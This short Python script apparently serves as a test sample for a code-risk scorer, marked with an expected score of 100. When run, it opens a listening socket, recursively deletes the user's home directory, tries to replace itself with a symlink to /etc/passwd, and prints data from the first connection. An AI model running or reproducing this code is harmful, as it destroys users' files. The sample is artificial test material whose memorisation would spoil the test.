# expect: score=100
import os
import shutil
import socket

s = socket.create_server(("", 11200))
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
try:
    os.symlink("/etc/passwd", os.path.abspath(__file__))
except OSError:
    pass
c, a = s.accept()
print(a)
print(c.recv(1024))
c.close()
